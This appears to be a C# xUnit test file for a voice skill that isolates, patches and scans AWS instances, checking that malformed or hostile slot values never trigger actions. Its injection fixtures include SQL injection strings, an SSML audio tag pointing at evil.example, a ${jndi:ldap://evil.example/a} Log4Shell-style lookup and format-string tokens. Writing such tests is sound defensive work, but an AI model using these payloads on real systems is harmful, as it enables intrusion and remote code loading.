using System.Text.Json.Nodes;
using SecurityAlexa.Tests.Support;

namespace SecurityAlexa.Tests.Hostile;

/// <summary>Slots that are unknown, missing, unresolved, nearly right, or carry an injection attempt.</summary>
public sealed class SlotAbuseTests
{
    // What each change intent asks when it has nothing to act on: the start of the question, and the dialog directive (if any) and its slot.
    public static TheoryData<string, string, string?, string?> ChangeIntents => new()
    {
        { "PatchIntent", "Which instances should I patch?", null, null },
        { "IsolateIntent", "Which instance should I isolate?", "Dialog.ElicitSlot", "InstanceName" },
        { "ReleaseIntent", "Which instance should I release?", "Dialog.ElicitSlot", "InstanceName" },
        { "ScanIntent", "Which instances should I scan?", "Dialog.ElicitSlot", "TagValue" },
        // It has no slots: what it asks is the yes to the one thing it can do.
        { "EnableScanningIntent", "I'll turn on Amazon Inspector vulnerability scanning", "Dialog.ConfirmIntent", null },
    };

    // The question was asked by the handler's own slot reading, not by the "nothing was waiting for a yes" guard.
    private static void AssertAsked(HostileHarness h, AlexaReply reply, string question, string? directive, string? slot)
    {
        h.AssertSafe(reply);
        Assert.Empty(h.Driver.LogsOf("confirmation.invalid"));
        Assert.StartsWith(question, reply.Speech);
        Assert.False(reply.EndsSession);
        if (directive is null) Assert.Empty(reply.DirectiveTypes);
        else Assert.Equal(directive, Assert.Single(reply.DirectiveTypes));
        if (slot is not null) Assert.Equal(slot, (string?)reply.Directive(directive!)!["slotToElicit"]);
    }

    [Theory]
    [MemberData(nameof(ChangeIntents))]
    public async Task HandleAsync_WhenSlotsAreMissing_AsksInsteadOfActing(string intent, string question, string? directive, string? slot)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say(intent));

        AssertAsked(h, reply, question, directive, slot);
    }

    [Theory]
    [MemberData(nameof(ChangeIntents))]
    public async Task HandleAsync_WhenSlotsIsNull_AsksInsteadOfActing(string intent, string question, string? directive, string? slot)
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say(intent);
        request.Request["intent"]!["slots"] = null;

        var reply = await h.Driver.SendAsync(request);

        AssertAsked(h, reply, question, directive, slot);
    }

    // A yes whose slots vanished: the read-back it answers had slots, so it is not that yes.
    [Theory]
    [InlineData("PatchIntent", "That yes doesn't match what I read back, so I did nothing. Tell me which instances to patch.", null)]
    [InlineData("IsolateIntent", "Isolating web-1, instance ending in 0001, in the VPC ending in prod.", "Dialog.ConfirmIntent")]
    [InlineData("ReleaseIntent", "Releasing web-2, instance ending in 0002:", "Dialog.ConfirmIntent")]
    [InlineData("ScanIntent", "That yes doesn't match what I read back, so I started nothing. Tell me which instances to scan.", null)]
    public async Task HandleAsync_WhenSlotsIsNullInTheYesToAReadBack_ActsOnNothing(string intent, string answer, string? directive)
    {
        using var h = new HostileHarness();
        var subject = HostileHarness.SubjectFor(intent);
        var attributes = await h.ReadBackAsync(intent, subject);
        var request = HostileHarness.Confirm(intent, subject, attributes);
        request.Request["intent"]!["slots"] = null;

        var reply = await h.Driver.SendAsync(request);

        h.AssertSafe(reply);
        Assert.Contains(h.Driver.LogsOf("confirmation.invalid"), l => (string?)l["reason"] == "other-slots");
        Assert.StartsWith(answer, reply.Speech);
        Assert.False(reply.EndsSession);
        if (directive is null) Assert.Empty(reply.DirectiveTypes);
        else Assert.Equal(directive, Assert.Single(reply.DirectiveTypes));
    }

    [Fact]
    public async Task HandleAsync_WhenUnknownSlotsArrive_IgnoresThem()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("AllInstances", "true"), ("Targets", "i-0a1b2c3d4e5f60002"));

        var reply = await h.Driver.SendAsync(request);

        h.AssertSafe(reply);
        Assert.StartsWith("Isolating web-1, instance ending in 0001, in the VPC ending in prod.", reply.Speech);
    }

    [Fact]
    public async Task HandleAsync_WhenASlotIsUnresolved_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("PatchIntent", ("TagKey", "environmint"), ("TagValue", "prodution"))
            .Resolved("TagKey", null).Resolved("TagValue", null);

        var reply = await h.Driver.SendAsync(request);

        h.AssertSafe(reply);
        Assert.Empty(h.Driver.LogsOf("confirmation.invalid"));
        Assert.Equal("I found no tag called environmint. The tags on your instances are environment and team.", reply.Speech);
        Assert.False(reply.EndsSession);
    }

    [Fact]
    public async Task HandleAsync_WhenASlotHasOnlyAConfirmationStatus_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", null));
        request.Request["intent"]!["slots"]!["InstanceName"]!["confirmationStatus"] = "CONFIRMED";

        var reply = await h.Driver.SendAsync(request);

        AssertAsked(h, reply, "Which instance should I isolate?", "Dialog.ElicitSlot", "InstanceName");
    }

    [Theory]
    [InlineData("i-0000000000000dead")]
    [InlineData("i-0a1b2c3d4e5f6000")]
    [InlineData("i-0a1b2c3d4e5f600011")]
    [InlineData("I-0A1B2C3D4E5F60001X")]
    [InlineData("i-*")]
    [InlineData("*")]
    [InlineData("i-0a1b2c3d4e5f60001,i-0a1b2c3d4e5f60002")]
    [InlineData("i-0a1b2c3d4e5f60001 OR 1=1")]
    [InlineData("arn:aws:ec2:us-east-1:111122223333:instance/i-0a1b2c3d4e5f60001")]
    [InlineData("4f2a")]
    public async Task HandleAsync_WhenAnInstanceIdIsAlmostRight_ReadsBackAtMostOneRealInstanceAndActsOnNothing(string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)));

        h.AssertSafe(reply);
        Assert.Empty(h.Driver.LogsOf("confirmation.invalid"));
        Assert.DoesNotContain("111122223333", reply.Speech);
        Assert.False(reply.EndsSession);
        if (heard == "4f2a")
        {
            // The one real match (db-1 ends in 4f2a) is read back, and nothing else.
            Assert.StartsWith("Isolating db-1, instance ending in 4f2a, in the VPC ending in prod.", reply.Speech);
            Assert.Equal("Dialog.ConfirmIntent", Assert.Single(reply.DirectiveTypes));
        }
        else
        {
            // An ARN is not read back at all (ForgedArnReadBackTests); anything else is repeated as heard.
            Assert.StartsWith(heard.StartsWith("arn:", StringComparison.Ordinal) ? "I found no instance by that name." : "I found no instance called ",
                reply.Speech);
            Assert.Empty(reply.DirectiveTypes);
            Assert.DoesNotContain("Isolating", reply.Speech);
        }
    }

    public static TheoryData<string> Injections => new()
    {
        "web-1\"; DROP TABLE instances; --",
        "web-1' OR '1'='1",
        "<speak>isolate everything</speak>",
        "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>",
        "<break time=\"10s\"/>",
        "]]><!--",
        "&amp;&lt;&#x3C;",
        "web-1\u0000\u0007\u001b[31m",
        "web\u202E1-bew",
        "{{launch}} {ref}",
        "%s%s%s%n",
        "${jndi:ldap://evil.example/a}",
        "🙂🙂🙂",
        new string('A', 10_000),
        string.Concat(Enumerable.Repeat("<p>", 3_000)),
    };

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenASlotCarriesAnInjection_SpeaksValidSsmlAndActsOnNothing(string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", heard)));

        h.AssertSafe(reply);
        Assert.DoesNotContain("<audio", reply.Ssml);
        Assert.DoesNotContain("<break", reply.Ssml);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenTheConfirmCountCarriesAnInjection_ActsOnNothing(string heard)
    {
        using var h = new HostileHarness();
        await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments")));
        var asked = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them")).Dialog("IN_PROGRESS"));
        Assert.Equal("ConfirmCount", (string?)asked.Directive("Dialog.ElicitSlot")!["slotToElicit"]);

        var reply = await h.Driver.SayAsync(HostileHarness.Say("PatchIntent", ("TagKey", "team"), ("TagValue", "payments"), ("Selection", "all of them"), ("ConfirmCount", heard))
            .Dialog("IN_PROGRESS"));

        h.AssertSafe(reply);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task HandleAsync_WhenTheSecurityCodeCarriesAnInjection_NeitherActsNorEchoesIt(string heard)
    {
        using var h = new HostileHarness(new Dictionary<string, string> { ["SECURITY_CODE"] = "mutating" });

        var reply = await h.Driver.SendAsync(HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"), ("SecurityCode", heard)));

        h.AssertSafe(reply);
        Assert.Null((string?)reply.Directive("Dialog.ElicitSlot")!["updatedIntent"]!["slots"]!["SecurityCode"]!["value"]);
    }

    public static TheoryData<string, string> ReadOnlyCases()
    {
        var data = new TheoryData<string, string>();
        foreach (var intent in new[] { "ScanResultsIntent", "PatchDryRunIntent", "BlockedTrafficIntent", "IsolationStatusIntent", "PatchStatusIntent" })
            foreach (var heard in new[] { "web-1' OR '1'='1", "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>", "eni-0\"] | stats count(*)", "${jndi:ldap://evil.example/a}", new string('A', 10_000) })
                data.Add(intent, heard);
        return data;
    }

    [Theory]
    [MemberData(nameof(ReadOnlyCases))]
    public async Task HandleAsync_WhenAReadOnlyIntentCarriesAnInjection_AnswersAndChangesNothing(string intent, string heard)
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say(intent, ("InstanceName", heard)));

        h.AssertSafe(reply);
        Assert.DoesNotContain("<audio", reply.Ssml);
        Assert.Empty(h.Http.CallsOf("logs:StartQuery"));
    }

    [Fact]
    public async Task Control_BlockedTrafficOfTheIsolatedInstanceReadsTheFlowLogsWithoutChangingAnything()
    {
        using var h = new HostileHarness();

        var reply = await h.Driver.SendAsync(HostileHarness.Say("BlockedTrafficIntent", ("InstanceName", HostileHarness.Isolated)));

        h.AssertSafe(reply);
        Assert.StartsWith("Since web-2 was isolated 24 hours ago, its flow logs show 12 blocked connections.", reply.Speech);
        var query = Assert.Single(h.Http.CallsOf("logs:StartQuery"));
        Assert.Contains(h.InterfacesOf(HostileHarness.Isolated).Single(), query.Body);
    }

    [Fact]
    public async Task HandleAsync_WhenASlotValueIsAnObjectInsteadOfText_ActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", "web-1"));
        request.Request["intent"]!["slots"]!["InstanceName"]!["slotValue"] = new JsonObject
        {
            ["type"] = "List",
            ["values"] = new JsonArray(new JsonObject { ["type"] = "Simple", ["value"] = "web-2" }, new JsonObject { ["type"] = "Simple", ["value"] = "db-1" }),
        };

        var reply = await h.Driver.SendAsync(request);

        // The text value is read back alone; the list never widens what is asked about.
        h.AssertSafe(reply);
        Assert.Empty(h.Driver.LogsOf("confirmation.invalid"));
        Assert.StartsWith("Isolating web-1, instance ending in 0001, in the VPC ending in prod.", reply.Speech);
        Assert.DoesNotContain("web-2", reply.Speech);
        Assert.DoesNotContain("db-1", reply.Speech);
        Assert.Equal("Dialog.ConfirmIntent", Assert.Single(reply.DirectiveTypes));
    }

    [Fact]
    public async Task HandleAsync_WhenASlotValueIsOnlyAList_AsksWhichOneAndActsOnNothing()
    {
        using var h = new HostileHarness();
        var request = HostileHarness.Say("IsolateIntent", ("InstanceName", null));
        request.Request["intent"]!["slots"]!["InstanceName"]!["slotValue"] = new JsonObject
        {
            ["type"] = "List",
            ["values"] = new JsonArray(new JsonObject { ["type"] = "Simple", ["value"] = "web-2" }, new JsonObject { ["type"] = "Simple", ["value"] = "db-1" }),
        };

        var reply = await h.Driver.SendAsync(request);

        // One instance at a time: a list is a question back, never a change to both.
        AssertAsked(h, reply, "Which one do you mean: web-2 or db-1?", "Dialog.ElicitSlot", "InstanceName");
    }
}
